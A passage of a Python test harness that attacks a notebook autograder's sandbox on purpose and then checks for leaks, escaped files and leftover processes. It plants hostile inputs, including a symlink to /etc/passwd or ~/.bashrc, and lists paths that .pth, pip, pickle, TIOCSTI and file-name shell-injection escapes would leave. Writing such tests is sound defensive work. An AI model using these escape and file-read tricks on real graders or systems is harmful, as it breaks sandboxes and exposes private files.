    return json.dumps(notebook, ensure_ascii=False).encode()


def make_special_files(folder: Path) -> dict[Path, Expected]:
    """The batch-level cases: a symlink to /dev/zero, a FIFO, a folder and a symlink to a secret, each named
    *.ipynb (not-a-file); over the size, cell-size and cell-count caps (too-large); JSON nested too deep to
    parse; one file under two names (a hard link: graded once); full-marks copies with hostile names."""
    folder = Path(folder)
    folder.mkdir(parents=True, exist_ok=True)
    found: dict[Path, Expected] = {}

    def path(name):  # a fresh name (the folder may hold an earlier run)
        target = folder / f"{name}.ipynb"
        if target.is_dir() and not target.is_symlink():
            target.rmdir()
        elif os.path.lexists(target):
            target.unlink()
        return target

    link = path("x")
    os.symlink("/dev/zero", link)
    found[link] = Expected("not-a-file")
    fifo = path("y")
    os.mkfifo(fifo)
    found[fifo] = Expected("not-a-file")
    directory = path("z")
    directory.mkdir()
    found[directory] = Expected("not-a-file")
    secret = path("secret_link")
    os.symlink(next((str(p) for p in (Path.home() / ".bashrc", Path("/etc/passwd")) if p.exists()), "/etc/hostname"),
               secret)
    found[secret] = Expected("not-a-file|invalid-notebook")

    def big(name, edit):
        notebook = base()
        edit(notebook)
        target = path(name)
        target.write_bytes(_notebook_bytes(notebook))
        return target

    found[big("too_large_file", add_cell("x = '" + "a" * (60 * 2 ** 20) + "'\n"))] = Expected("too-large")
    found[big("too_large_cell", add_cell("x = '" + "a" * (3 * 2 ** 20) + "'\n"))] = Expected("too-large")
    found[big("too_many_cells", lambda nb: nb.cells.extend(
        {"cell_type": "code", "execution_count": None, "id": f"c{i}", "metadata": {}, "outputs": [], "source": "pass"}
        for i in range(100_000)))] = Expected("too-large")
    deep = path("deep_json")
    deep.write_text('{"cells": [], "metadata": {"a": ' + "[" * 100_000 + "]" * 100_000 + '}, "nbformat": 4, '
                    '"nbformat_minor": 5}')
    found[deep] = Expected("invalid-notebook|too-large")

    original, twin = path("hard_original"), path("hard_link")
    original.write_bytes(BASE01.read_bytes())
    os.link(original, twin)
    found[original] = Expected("ok")
    found[twin] = Expected(GRADED_ONCE, says=original.name)

    for name in ODD_NAMES:
        odd = path(name)
        odd.write_bytes(BASE01.read_bytes())
        found[odd] = Expected("ok")
    return found


# ----------------------------------------------------------------------------------------------------------
# After the batch: did anything get out?
# ----------------------------------------------------------------------------------------------------------

def status_matches(want: str, got: str) -> bool:
    """``want`` is a status, several joined by |, "!a|b" for none of them, or "*"."""
    if want == ANY:
        return True
    if want.startswith("!"):
        return got not in want[1:].split("|")
    return got in want.split("|")


def verdict_problems(name: str, result: dict, expected: Expected) -> list[str]:
    """What is wrong with the grader's ``result`` for attack (or special file) ``name``; [] when nothing."""
    if expected.status == GRADED_ONCE:
        return []  # see hard_link_pairs
    problems = []
    if not status_matches(expected.status, result["status"]):
        problems.append(f"{name}: status {result['status']!r}, expected {expected.status!r}")
    if result.get("exercise"):
        statuses = {e["function"]: e["status"] for e in result["exercises"]}
        for function in functions_of(name):
            want = expected.functions.get(function, "passed")
            if not status_matches(want, statuses.get(function, "absent")):
                problems.append(f"{name}: {function} is {statuses.get(function, 'absent')!r}, expected {want!r}")
    words = " ".join([*result.get("notes", []), *(e.get("feedback", "") for e in result.get("exercises", []))])
    if expected.says not in words:
        problems.append(f"{name}: the feedback and notes do not say {expected.says!r}")
    if name in MAX_TOTAL and result.get("total", 0) > MAX_TOTAL[name]:
        problems.append(f"{name}: total {result.get('total')} over {MAX_TOTAL[name]}")
    return problems


def hard_link_pairs(expected: dict[Path, Expected]) -> list[tuple[Path, Path]]:
    """(one name, the other) for each file given twice: the batch must have exactly one result for the pair."""
    return [(path.with_name(want.says), path) for path, want in expected.items() if want.status == GRADED_ONCE]


def plant_canary() -> str:
    """Put a secret in this process's environment (so in the grader's) and return it: no feedback may hold it."""
    value = "canary-" + hashlib.sha256(os.urandom(16)).hexdigest()[:24]
    os.environ[CANARY_VARIABLE] = value
    return value


def leaked(text: str, folder: Path, canary: str | None = None) -> list[str]:
    """The secrets found in ``text`` (a feedback): the canary, and the names of files in the teacher's home,
    /root, the checkout, solutions/ and the submissions folder, as a listing would show them ('name')."""
    found = [canary] if canary and canary in text else []
    venv = (ROOT / ".venv").name  # the environment is visible inside (read-only) where it lives
    for place in (Path.home(), Path("/root"), ROOT, ROOT / "solutions", Path(folder)):
        try:
            names = [n for n in os.listdir(place) if n != venv and len(n) > 3]
        except OSError:
            continue
        found += [f"{place}/{n}" for n in names if repr(n) in text]
    return found


BIG_FILE = 2 ** 16  # above this, tree_digest identifies a file by its inode data unless asked for full content


def _digest_file(path: str, full: bool = True) -> str:
    """sha256 of the content; for a file over BIG_FILE when not ``full``: its size, inode, mtime and ctime (a
    write or a utime() always moves the ctime, and no unprivileged process can set it back)."""
    try:
        info = os.lstat(path)
        if stat.S_ISLNK(info.st_mode):
            return "link:" + os.readlink(path)
        if not full and info.st_size > BIG_FILE:
            return f"inode:{info.st_size}:{info.st_ino}:{info.st_mtime_ns}:{info.st_ctime_ns}"
        if info.st_size > BIG_FILE:
            with open(path, "rb") as file:
                return hashlib.file_digest(file, "sha256").hexdigest()
        digest, fd = hashlib.sha256(), os.open(path, os.O_RDONLY)  # small files: one read, little overhead
        try:
            while chunk := os.read(fd, BIG_FILE + 1):
                digest.update(chunk)
        finally:
            os.close(fd)
        return digest.hexdigest()
    except OSError as error:
        return f"unreadable:{error.errno}"


def _is_bytecode_cache(directory: str, name: str) -> bool:
    """A .pyc of a module that exists next to its __pycache__ (Python rewrites these as it likes)."""
    if os.path.basename(directory) != "__pycache__" or not name.endswith(".pyc"):
        return False
    return os.path.exists(os.path.join(os.path.dirname(directory), name.split(".", 1)[0] + ".py"))


def tree_digest(folder: Path, skip_bytecode: bool = True, full: bool = True) -> str:
    """sha256 over every path (folders too) and file content under ``folder``; symlinks by their target; with
    ``full=False``, files over BIG_FILE by their inode data (see _digest_file)."""
    entries, files = [], []
    for directory, subdirs, names in os.walk(folder):
        subdirs.sort()
        relative = os.path.relpath(directory, folder)
        entries.append(f"D {relative}")
        for name in sorted(names):
            if skip_bytecode and _is_bytecode_cache(directory, name):
                continue
            files.append(os.path.join(directory, name))
    with concurrent.futures.ThreadPoolExecutor(4) as pool:
        digests = list(pool.map(lambda path: _digest_file(path, full), files, chunksize=256))
    entries += [f"F {os.path.relpath(p, folder)} {d}" for p, d in zip(files, digests)]
    return hashlib.sha256("\n".join(entries).encode()).hexdigest()


def checkout_fingerprint(root: Path = ROOT, skip_bytecode: bool = True, full: bool = False) -> str:
    """What the checkout and its environment hold: ``git status --porcelain --ignored`` for course_lib/ and
    solutions/, and a digest of every path and content under course_lib/, solutions/ and .venv/lib (a change to an
    already-modified or an ignored file shows only there). In .venv/lib the files over BIG_FILE (torch's
    libraries, 1 GB) count by their inode data unless ``full`` (1.5 s instead of 3.5 on two cores). Bytecode
    caches of existing modules are left out unless ``skip_bytecode=False`` (Python rewrites them itself).
    Take it after the grader is imported, so that no first import writes a cache in between."""
    root = Path(root)
    status = subprocess.run(["git", "status", "--porcelain", "--ignored", "--untracked-files=all", "--",
                             "course_lib", "solutions"], cwd=root, capture_output=True, text=True, check=True).stdout
    lines = [status.rstrip("\n")]
    for part in ("course_lib", "solutions", ".venv/lib"):
        lines.append(f"{part} {tree_digest(root / part, skip_bytecode, full or part != '.venv/lib')}")
    return "\n".join(lines)


def files_fingerprint(paths) -> dict[str, str | None]:
    """sha256 of each file (None when missing, "dir" for a folder): e.g. the other submissions, the grades."""
    found = {}
    for path in paths:
        path = str(path)
        if not os.path.lexists(path):
            found[path] = None
        elif os.path.isdir(path) and not os.path.islink(path):
            found[path] = "dir"
        else:
            found[path] = _digest_file(path)
    return found


def _ancestors() -> set[int]:
    pids, pid = set(), os.getpid()
    while pid > 1:
        pids.add(pid)
        try:
            with open(f"/proc/{pid}/stat") as file:
                pid = int(file.read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            break
    return pids


def alive_processes(marker: str = MARKER) -> list[int]:
    """Pids whose command line or environment holds ``marker``, or one of whose threads is named with it
    (a thread name keeps 15 bytes). This process and its ancestors are left out."""
    needle, short = marker.encode(), marker.encode()[:15]
    mine, found = _ancestors(), []
    for entry in os.scandir("/proc"):
        if not entry.name.isdigit() or int(entry.name) in mine:
            continue
        texts = []
        for what in ("cmdline", "environ"):
            try:
                with open(f"/proc/{entry.name}/{what}", "rb") as file:
                    texts.append(file.read())
            except OSError:
                pass
        try:
            for task in os.scandir(f"/proc/{entry.name}/task"):
                with open(f"{task.path}/comm", "rb") as file:
                    if short in file.read():
                        texts.append(needle)
        except OSError:
            pass
        if any(needle in text for text in texts):
            found.append(int(entry.name))
    return sorted(found)


def escape_paths(folder: Path, out: Path | None = None) -> list[Path]:
    """Every path an attack tries to create outside its sandbox (none may exist after the batch)."""
    folder = Path(folder).resolve()
    out = (folder / "out") if out is None else Path(out).resolve()
    dirs = [Path(d) for d in target_dirs(folder, out)]
    paths = [d / f"{MARKER}_{tag}" for d in dirs for tag in WRITE_TAGS]
    course = [ROOT / "course_lib", ROOT / "course_lib" / "__pycache__"]
    paths += [d / n for d in course for n in (f"{MARKER}.py", f"{MARKER}.cpython-311.pyc")]
    env = {*site.getsitepackages(), sysconfig.get_paths()["purelib"], str(site_packages()),
           os.path.dirname(os.__file__), os.path.dirname(os.path.realpath(sys.executable))}
    paths += [Path(d) / f"{MARKER}.pth" for d in sorted(env)]
    paths += [site_packages() / n for n in (f"{MARKER}_pip.py", f"{MARKER}_pip.pth", "course_attack_marker-0.1.dist-info")]
    paths += [ROOT / f"{MARKER}_pip_target", folder / f"{MARKER}_pip_target"]
    paths += [Path("/tmp") / n for n in (f"{MARKER}_pth_ran", f"{MARKER}_pickle", f"{MARKER}_tiocsti",
                                          f"{MARKER}_fill", f"{MARKER}_dd")]
    # where the relative paths (../, ../..) and the shell injections in file names would land, from the
    # working directories a grader might have
    cwds = {Path.cwd(), folder, out, ROOT, ROOT / "tests", ROOT / "solutions", Path.home()}
    for cwd in cwds:
        paths += [cwd / f"{MARKER}_shell", cwd / f"{MARKER}_tick", cwd / f"{MARKER}_fill",
                  cwd / f"{MARKER}_fill_0", cwd.parent / f"{MARKER}_planted.ipynb",
                  cwd.parent.parent / f"{MARKER}_planted.ipynb"]
    paths += [folder / f"{MARKER}_planted.ipynb", ROOT / "solutions" / f"{MARKER}_planted.ipynb"]
    return list(dict.fromkeys(paths))


def escaped_files(folder: Path, out: Path | None = None) -> list[Path]:
    """Anything named with the marker in the target folders and under course_lib/ (a wider net than
    escape_paths: names the attacks were not listed with)."""
    folder = Path(folder).resolve()
    places = [Path(d) for d in target_dirs(folder, out)]
    found = [p for d in places if d.is_dir() for p in d.glob(f"*{MARKER}*")]
    found += [p for d in places if d.is_dir() for p in d.glob("course_attack_marker*")]
    found += list((ROOT / "course_lib").rglob(f"*{MARKER}*"))
    return sorted(set(found))
